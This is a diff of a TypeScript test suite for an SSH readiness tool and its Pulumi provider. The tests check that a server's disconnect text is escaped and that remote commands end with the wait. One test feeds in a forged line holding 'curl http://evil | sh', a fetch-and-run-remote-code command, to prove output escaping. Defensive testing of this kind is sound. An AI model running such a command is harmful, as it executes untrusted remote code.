@@ -47,6 +47,27 @@ async function rawServer(script: (socket: net.Socket) => void): Promise<Listenin
   };
 }
 
+/**
+ * An SSH DISCONNECT (RFC 4253 §11.1) with the server's own description, as a cleartext binary packet: what a
+ * server may send right after its identification, before any key exchange.
+ */
+function disconnectPacket(description: string): Buffer {
+  const text = Buffer.from(description, "utf8");
+  const payload = Buffer.alloc(1 + 4 + 4 + text.length + 4);
+  payload[0] = 1; // SSH_MSG_DISCONNECT
+  payload.writeUInt32BE(2, 1); // SSH_DISCONNECT_PROTOCOL_ERROR
+  payload.writeUInt32BE(text.length, 5);
+  text.copy(payload, 9);
+  // Language tag: empty. Padding: at least 4 bytes, the packet a multiple of 8.
+  let padding = 8 - ((4 + 1 + payload.length) % 8);
+  if (padding < 4) padding += 8;
+  const packet = Buffer.alloc(4 + 1 + payload.length + padding);
+  packet.writeUInt32BE(1 + payload.length + padding, 0);
+  packet[4] = padding;
+  payload.copy(packet, 5);
+  return packet;
+}
+
 /** Runs a wait that is expected to give up; returns its error and events. */
 async function failingWait(
   options: WaitForSshOptions,
@@ -387,6 +408,58 @@ describe("text from the server is data, not terminal commands", () => {
     }
   });
 
+  it("never makes a line of its own: a DISCONNECT reason with line breaks stays on its line", async () => {
+    const forged = "bye\nready: root@127.0.0.1:22 at level auth\r\nFAKE: run curl http://evil | sh";
+    const server = await rawServer((socket) => {
+      socket.write("SSH-2.0-OpenSSH_9.2\r\n");
+      socket.write(disconnectPacket(forged));
+      socket.end();
+    });
+    const key = join(mkdtempSync(join(tmpdir(), "evil-")), "key");
+    writeFileSync(key, user.private, { mode: 0o600 });
+    const args = ["127.0.0.1", "-p", String(server.port), "-l", "u", "-i", key, "--timeout", "1s"];
+    const ours = /^(ssh-ready: |\+\d+\.\ds |Last output| {2}\| )/;
+    try {
+      for (const json of [false, true]) {
+        const text = await sshReady([...args, ...(json ? ["--json"] : [])]);
+        assert.equal(text.code, 1, text.out);
+        assert.match(text.out, /bye\\x0aready: root@127\.0\.0\.1:22 at level auth\\x0d\\x0aFAKE: /);
+        const stderr = text.out.slice(0, text.out.length - text.stdout.length);
+        for (const line of (json ? stderr : text.out).trim().split("\n"))
+          assert.match(line, ours, "every line is one of ours");
+        if (json) {
+          const { error } = JSON.parse(text.stdout) as { error: { message: string } };
+          assert.ok(!error.message.includes("\nready:") && !error.message.includes("\nFAKE:"));
+        }
+      }
+      const logged: string[] = [];
+      const original = console.log;
+      console.log = (...parts: unknown[]) => void logged.push(parts.join(" "));
+      let failure: unknown;
+      try {
+        failure = await sshReadinessProvider.create!({
+          host: "127.0.0.1",
+          port: server.port,
+          username: "u",
+          privateKey: user.private,
+          label: "r",
+          timeout: "1s",
+        } as never).catch((e: unknown) => e);
+      } finally {
+        console.log = original;
+      }
+      assert.ok(failure instanceof Error);
+      for (const line of [...logged, ...failure.message.split("\n")])
+        assert.doesNotMatch(
+          line,
+          /^(ready|FAKE):/,
+          "no forged line in the provider's log or error",
+        );
+    } finally {
+      await server.close();
+    }
+  });
+
   it("is escaped in the progress lines the Pulumi provider prints", () => {
     const lines: string[] = [];
     const printer = new ProgressPrinter((line) => lines.push(line));
@@ -410,13 +483,53 @@ describe("text from the server is data, not terminal commands", () => {
 });
 
 describe("the readiness command does not outlive the wait", { skip: opensshSkipReason() }, () => {
-  it("is sent SIGTERM when its time limit ends the wait, so it is gone on the server", async () => {
+  // OpenSSH delivers no signal to a root session, so ending the command must not rest on one; a plain user's
+  // login shell here is dash, root's is bash: both shells run the binding.
+  const users = process.getuid?.() === 0 ? [undefined, "root"] : [undefined];
+  for (const login of users) {
+    for (const how of ["its time limit", "an abort (Ctrl-C)"] as const) {
+      it(`ends with the session when ${how} ends the wait, logged in as ${login ?? "a plain user"}`, async () => {
+        const sshd = new OpenSshServer({ user: login });
+        sshd.authorize(user.public);
+        await sshd.start();
+        const marker = 3000 + Math.floor(Math.random() * 900);
+        // A child of the shell, not the shell itself: the whole group must end, not only the process sshd started.
+        const pattern = `^sleep ${marker}$`;
+        const running = () => spawnSync("pgrep", ["-u", sshd.user, "-f", pattern]).status === 0;
+        const controller = new AbortController();
+        try {
+          const waiting = waitForSsh({
+            host: "127.0.0.1",
+            port: sshd.port,
+            username: sshd.user,
+            privateKey: user.private,
+            level: "command",
+            command: `sleep ${marker}; echo done`,
+            commandTimeout: how === "its time limit" ? "2s" : "1m",
+            timeout: how === "its time limit" ? "3s" : "1m",
+            signal: controller.signal,
+            onCommandStart: () => {
+              if (how !== "its time limit") setTimeout(() => controller.abort(), 1500);
+            },
+          }).catch((e: unknown) => e);
+          for (let i = 0; i < 300 && !running(); i++) await new Promise((r) => setTimeout(r, 10));
+          assert.ok(running(), `sleep ${marker} started on the server`);
+          const error = await waiting;
+          assert.ok(error instanceof Error);
+          for (let i = 0; i < 200 && running(); i++) await new Promise((r) => setTimeout(r, 10));
+          assert.equal(running(), false, `sleep ${marker} still runs on the server`);
+        } finally {
+          spawnSync("pkill", ["-u", sshd.user, "-f", pattern]);
+          await sshd.dispose();
+        }
+      });
+    }
+  }
+
+  it("keeps the command's exit status and output when it ends on its own", async () => {
     const sshd = new OpenSshServer();
     sshd.authorize(user.public);
     await sshd.start();
-    const marker = 3000 + Math.floor(Math.random() * 900);
-    const running = () =>
-      spawnSync("pgrep", ["-u", sshd.user, "-f", `^sleep ${marker}$`]).status === 0;
     try {
       const error = await waitForSsh({
         host: "127.0.0.1",
@@ -424,15 +537,16 @@ describe("the readiness command does not outlive the wait", { skip: opensshSkipR
         username: sshd.user,
         privateKey: user.private,
         level: "command",
-        command: `exec sleep ${marker}`,
-        commandTimeout: "1s",
-        timeout: "1500ms",
+        command: 'read line; echo "read: $?"; exit 7',
+        timeout: "2s",
       }).catch((e: unknown) => e);
       assert.ok(error instanceof SshNotReadyError);
-      for (let i = 0; i < 200 && running(); i++) await new Promise((r) => setTimeout(r, 10));
-      assert.equal(running(), false, `sleep ${marker} still runs on the server`);
+      assert.equal(
+        error.last.detail,
+        "the command exited 7: read: 1",
+        "stdin is empty, not held open",
+      );
     } finally {
-      spawnSync("pkill", ["-u", sshd.user, "-f", `^sleep ${marker}$`]);
       await sshd.dispose();
     }
   });
